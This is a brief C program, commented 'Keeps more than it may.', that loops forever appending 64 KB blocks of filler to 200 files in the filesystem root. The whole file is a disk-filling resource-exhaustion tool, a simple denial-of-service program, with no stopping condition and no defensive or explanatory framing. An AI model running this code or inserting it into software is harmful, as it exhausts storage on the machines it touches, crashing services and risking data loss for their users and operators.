/* Keeps more than it may. */
#include <stdio.h>
#include <string.h>
int main(void) {
    static char block[65536];
    char name[40];
    memset(block, 'x', sizeof block);
    for (int i = 0; ; i++) {
        snprintf(name, sizeof name, "/hoard%d", i % 200);
        FILE *file = fopen(name, "a");
        if (!file) continue;
        fwrite(block, 1, sizeof block, file);
        fclose(file);
    }
}
